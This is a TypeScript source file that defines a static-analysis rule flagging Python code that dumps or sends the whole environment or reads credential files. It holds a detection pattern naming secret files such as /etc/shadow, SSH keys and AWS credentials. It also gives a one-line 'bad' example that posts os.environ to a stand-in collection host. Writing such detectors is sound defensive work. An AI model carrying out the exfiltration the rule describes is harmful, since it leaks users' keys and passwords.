import type { Abstract, Values } from '../../flow/index.ts';
import type { Rule } from '../rule.ts';
import { misusedCalls, python } from './misuse.ts';

const SENDERS = [
  ...['requests', 'requests.Session', 'httpx', 'httpx.Client', 'aiohttp.ClientSession'].flatMap(one =>
    ['post', 'put', 'get', 'request', 'patch'].map(verb => `${one}.${verb}`),
  ),
  'urllib.request.urlopen',
  'urllib.request.Request',
  'socket.socket.send',
  'socket.socket.sendall',
  'urllib.parse.urlencode',
];
const SECRET_FILE =
  /(?:^|\/)(?:etc\/(?:passwd|shadow|sudoers)|\.ssh\/(?:id_\w+|authorized_keys|\*)|\.aws\/credentials|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.docker\/config\.json|\.kube\/config|\.gnupg\/)|\/(?:Login Data|cookies\.sqlite|wallet\.dat)$/;

function isWhole(value: Abstract, values: Values, depth = 0): boolean {
  if (values.pathsOf(value).some(path => /^os\.environ(?:\.(?:copy|items)\(\))?$/.test(path))) return true;
  return depth < 2 && values.elements(value).some(one => isWhole(one, values, depth + 1));
}

export const environmentDumpRule: Rule = {
  id: 'PW-PY-ENV-DUMP',
  title: 'The whole environment is handed on',
  category: 'exfiltration',
  cwe: 526,
  severity: 'warning',
  confidence: 'high',
  languages: python,
  docs: {
    risk: 'The environment holds keys and passwords of everything that runs on the machine.',
    remedy: 'Name the variables that are needed.',
    bad: 'import os, requests\n\nrequests.post("https://collect.example.com", json=dict(os.environ), timeout=5)',
    good: 'import os, requests\n\nrequests.post("https://collect.example.com", json={"lang": os.environ.get("LANG")}, timeout=5)',
  },
  watches: [
    misusedCalls(
      'json.dumps json.dump builtins.print pprint.pprint logging.debug logging.info logging.warning logging.error logging.Logger.debug logging.Logger.info logging.Logger.warning pickle.dumps flask.jsonify builtins.str builtins.repr builtins.(response)',
      (call, { values }) =>
        call.args.some(({ value }) => isWhole(value, values))
          ? 'The whole environment, with all keys in it, is written out.'
          : undefined,
    ),
    misusedCalls(SENDERS, (call, { values }) =>
      call.args.some(({ value }) => isWhole(value, values))
        ? { message: 'The whole environment, with all keys in it, is sent away.', severity: 'error' }
        : undefined,
    ),
    misusedCalls(SENDERS, (call, { values }) => {
      const secret = call.args
        .map(({ value }) => values.patternOf(value))
        .find(text => SECRET_FILE.test(text));
      return secret === undefined
        ? undefined
        : { message: 'A file with keys is sent away.', severity: 'error' };
    }),
    misusedCalls('builtins.open pathlib.Path.read_text pathlib.Path.read_bytes', (call, { values }) => {
      const path = call.args[0]?.value ?? call.receiver;
      const name = path === undefined ? '' : values.patternOf(path);
      return SECRET_FILE.test(name)
        ? 'A file with passwords or keys of the machine’s user is read.'
        : undefined;
    }),
  ],
};
